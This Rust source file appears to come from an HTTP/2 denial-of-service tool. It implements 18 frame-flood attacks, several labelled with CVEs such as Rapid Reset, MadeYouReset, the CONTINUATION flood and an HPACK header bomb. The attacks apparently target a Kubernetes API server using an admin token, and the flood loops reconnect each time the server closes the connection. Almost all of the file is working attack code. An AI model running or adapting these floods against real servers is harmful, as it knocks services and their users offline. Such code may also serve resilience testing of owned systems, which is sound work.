//! Floods of HTTP/2 frames. The server may answer them or end the connection; the flood then
//! continues over a new connection.

use super::{Entry, Outcome};
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, GOAWAY, HEADERS, PADDED, PING, POST,
    PRIORITY, RST_STREAM, SETTINGS_HEADER_TABLE_SIZE, SETTINGS_INITIAL_WINDOW_SIZE, WINDOW_UPDATE,
    connect, frame, header_block, setting,
};
use crate::target::{ADMIN_TOKEN, Target};
use anyhow::Result;
use std::io::Write;
use std::time::Instant;

/// The maximum of frames of one flood.
const FRAMES_MAX: usize = 500_000;
/// The maximum of connections of one flood, for a server that ends each of them at once.
const CONNECTIONS_MAX: usize = 200;
/// Rounds whose frames are sent in one write.
const BATCH: u32 = 100;
const WINDOW: u32 = 65_535;
const CONFIG_MAPS: &str = "/api/v1/namespaces/default/configmaps";

/// Streams whose responses wait for a window.
const WAITING_STREAMS: u32 = 90;
/// A type of frames that no specification has.
const UNKNOWN_FRAME: u8 = 0xfa;

pub const ATTACKS: [Entry; 18] = [
    ("rapid-reset", "streams that are reset at once (CVE-2023-44487)", None, rapid_reset),
    ("made-you-reset", "errors that make the server reset (CVE-2025-8671)", None, made_you_reset),
    ("window-overflow", "windows that overflow", None, window_overflow),
    ("continuation", "headers without an end (CVE-2024-27316)", None, continuation),
    ("empty-data", "empty data frames (CVE-2019-9518)", None, empty_data),
    ("settings", "settings that must be acknowledged (CVE-2019-9515)", None, settings),
    ("ping", "pings that must be answered (CVE-2019-9512)", None, ping),
    ("header-bomb", "headers that repeat a long table entry (CVE-2016-6581)", None, header_bomb),
    ("data-after-end", "data of streams that have ended: the server resets", None, data_after_end),
    ("bad-headers", "requests without a path: the server resets", None, bad_headers),
    ("dribble", "windows that open by one byte (CVE-2019-9511)", None, dribble),
    ("window-settings", "settings that move all windows to and fro", None, window_settings),
    ("table-size", "header tables that shrink and grow", None, table_size),
    ("empty-names", "headers without names (CVE-2019-9516)", None, empty_names),
    ("empty-headers", "empty frames of headers (CVE-2019-9518)", None, empty_headers),
    ("priority", "priorities that change (CVE-2019-9513)", None, priority),
    ("padding", "data that is all padding", None, padding),
    ("odd-frames", "unknown frames, resets of ended streams, GOAWAY", None, odd_frames),
];

/// Sends frames over one connection after the other. `frames` returns the frames of a round; rounds
/// are counted from 0 for each connection.
fn flood(target: &Target, end: Instant, frames: impl Fn(u32) -> Vec<u8>) -> Result<Outcome> {
    flood_in_window(target, end, WINDOW, frames)
}

/// Like [`flood`], with an initial window for responses.
fn flood_in_window(
    target: &Target,
    end: Instant,
    window: u32,
    frames: impl Fn(u32) -> Vec<u8>,
) -> Result<Outcome> {
    let mut sent = 0;
    let mut connections = 0;
    while sent < FRAMES_MAX && connections < CONNECTIONS_MAX && Instant::now() < end {
        // The server may refuse new connections.
        let Ok(mut stream) = connect(target, window) else { continue };
        connections += 1;
        let mut round = 0;
        while sent < FRAMES_MAX && Instant::now() < end {
            let batch: Vec<u8> = (round..round + BATCH).flat_map(&frames).collect();
            if stream.write_all(&batch).and_then(|()| stream.flush()).is_err() {
                break;
            }
            round += BATCH;
            sent += BATCH as usize;
        }
    }
    Ok(Outcome { sent, note: format!("{connections} connections") })
}

/// Returns the stream ID of a round. IDs of clients are odd.
fn stream(round: u32) -> u32 {
    2 * round + 1
}

fn rapid_reset(target: &Target, end: Instant) -> Result<Outcome> {
    let get = header_block(GET, CONFIG_MAPS, ADMIN_TOKEN);
    flood(target, end, |round| {
        let cancel = frame(RST_STREAM, 0, stream(round), &8_u32.to_be_bytes());
        [frame(HEADERS, END_HEADERS | END_STREAM, stream(round), &get), cancel].concat()
    })
}

fn made_you_reset(target: &Target, end: Instant) -> Result<Outcome> {
    let get = header_block(GET, CONFIG_MAPS, ADMIN_TOKEN);
    flood(target, end, |round| {
        let zero_increment = frame(WINDOW_UPDATE, 0, stream(round), &0_u32.to_be_bytes());
        [frame(HEADERS, END_HEADERS | END_STREAM, stream(round), &get), zero_increment].concat()
    })
}

fn window_overflow(target: &Target, end: Instant) -> Result<Outcome> {
    let post = header_block(POST, CONFIG_MAPS, ADMIN_TOKEN);
    flood(target, end, |round| {
        let increment = frame(WINDOW_UPDATE, 0, stream(round), &0x7fff_ffff_u32.to_be_bytes());
        [frame(HEADERS, END_HEADERS, stream(round), &post), increment].concat()
    })
}

fn continuation(target: &Target, end: Instant) -> Result<Outcome> {
    let get = header_block(GET, CONFIG_MAPS, ADMIN_TOKEN);
    flood(target, end, |round| match round {
        0 => frame(HEADERS, END_STREAM, 1, &get),
        _ => frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b"),
    })
}

fn empty_data(target: &Target, end: Instant) -> Result<Outcome> {
    let post = header_block(POST, CONFIG_MAPS, ADMIN_TOKEN);
    flood(target, end, |round| match round {
        0 => frame(HEADERS, END_HEADERS, 1, &post),
        _ => frame(DATA, 0, 1, &[]),
    })
}

fn settings(target: &Target, end: Instant) -> Result<Outcome> {
    flood(target, end, |_| setting(SETTINGS_INITIAL_WINDOW_SIZE, WINDOW))
}

fn ping(target: &Target, end: Instant) -> Result<Outcome> {
    flood(target, end, |round| frame(PING, 0, 0, &u64::from(round).to_be_bytes()))
}

fn header_bomb(target: &Target, end: Instant) -> Result<Outcome> {
    // The first request adds a long header to the dynamic table. The others refer to it 4,000 times
    // each.
    let long = [b"\x40\x01a\x7f\xa1\x1e".as_slice(), &[b'a'; 4000]].concat();
    let first = [header_block(GET, "/version", ADMIN_TOKEN), long].concat();
    let repeated = [header_block(GET, "/version", ADMIN_TOKEN), vec![0xbe; 4000]].concat();
    flood(target, end, |round| {
        let block = if round == 0 { &first } else { &repeated };
        frame(HEADERS, END_HEADERS | END_STREAM, stream(round), block)
    })
}

fn data_after_end(target: &Target, end: Instant) -> Result<Outcome> {
    let get = header_block(GET, CONFIG_MAPS, ADMIN_TOKEN);
    flood(target, end, |round| {
        let ended = frame(HEADERS, END_HEADERS | END_STREAM, stream(round), &get);
        [ended, frame(DATA, 0, stream(round), b"x")].concat()
    })
}

fn bad_headers(target: &Target, end: Instant) -> Result<Outcome> {
    flood(target, end, |round| frame(HEADERS, END_HEADERS | END_STREAM, stream(round), GET))
}

/// Opens streams whose responses are long. Returns the frame of a round, until all are open.
fn waiting_stream(round: u32, request: &[u8]) -> Option<Vec<u8>> {
    let open = || frame(HEADERS, END_HEADERS | END_STREAM, stream(round), request);
    (round < WAITING_STREAMS).then(open)
}

fn dribble(target: &Target, end: Instant) -> Result<Outcome> {
    let get = header_block(GET, "/openapi/v2", ADMIN_TOKEN);
    flood_in_window(target, end, 0, |round| {
        let one = || {
            let stream = stream(round % WAITING_STREAMS);
            frame(WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes())
        };
        waiting_stream(round, &get).unwrap_or_else(one)
    })
}

fn window_settings(target: &Target, end: Instant) -> Result<Outcome> {
    let get = header_block(GET, "/openapi/v2", ADMIN_TOKEN);
    flood_in_window(target, end, 0, |round| {
        let to_and_fro = || setting(SETTINGS_INITIAL_WINDOW_SIZE, round % 2);
        waiting_stream(round, &get).unwrap_or_else(to_and_fro)
    })
}

fn table_size(target: &Target, end: Instant) -> Result<Outcome> {
    // The block begins with two changes of the size of the decoder's table: to 0 and to 4,096
    // bytes.
    let get = [b"\x20\x3f\xe1\x1f", header_block(GET, "/version", ADMIN_TOKEN).as_slice()].concat();
    flood(target, end, |round| {
        let size = if round % 2 == 0 { 0 } else { u32::MAX };
        let request = frame(HEADERS, END_HEADERS | END_STREAM, stream(round), &get);
        [setting(SETTINGS_HEADER_TABLE_SIZE, size), request].concat()
    })
}

fn empty_names(target: &Target, end: Instant) -> Result<Outcome> {
    let headers = [0; 3].repeat(4_000);
    let get = [header_block(GET, "/version", ADMIN_TOKEN), headers].concat();
    flood(target, end, |round| frame(HEADERS, END_HEADERS | END_STREAM, stream(round), &get))
}

fn empty_headers(target: &Target, end: Instant) -> Result<Outcome> {
    flood(target, end, |round| match round {
        0 => frame(HEADERS, END_STREAM, 1, &[]),
        _ => frame(CONTINUATION, 0, 1, &[]),
    })
}

fn priority(target: &Target, end: Instant) -> Result<Outcome> {
    flood(target, end, |round| {
        // Each stream depends on the one before, and each hundredth on itself.
        let on = if round % 100 == 0 { stream(round) } else { stream(round).saturating_sub(2) };
        let weight = (round % 256) as u8;
        frame(PRIORITY, 0, stream(round), &[&on.to_be_bytes()[..], &[weight]].concat())
    })
}

fn padding(target: &Target, end: Instant) -> Result<Outcome> {
    let post = header_block(POST, CONFIG_MAPS, ADMIN_TOKEN);
    let padded = [vec![255], vec![0; 255]].concat();
    flood(target, end, |round| match round {
        0 => frame(HEADERS, END_HEADERS, 1, &post),
        _ => frame(DATA, PADDED, 1, &padded),
    })
}

fn odd_frames(target: &Target, end: Instant) -> Result<Outcome> {
    let get = header_block(GET, "/version", ADMIN_TOKEN);
    let cancel = 8_u32.to_be_bytes();
    flood(target, end, |round| match (round, round % 3) {
        (0, _) => frame(HEADERS, END_HEADERS | END_STREAM, 1, &get),
        (_, 0) => frame(UNKNOWN_FRAME, 0xff, 1, &[0; 100]),
        (_, 1) => frame(RST_STREAM, 0, 1, &cancel),
        _ => frame(GOAWAY, 0, 0, &[0; 8]),
    })
}
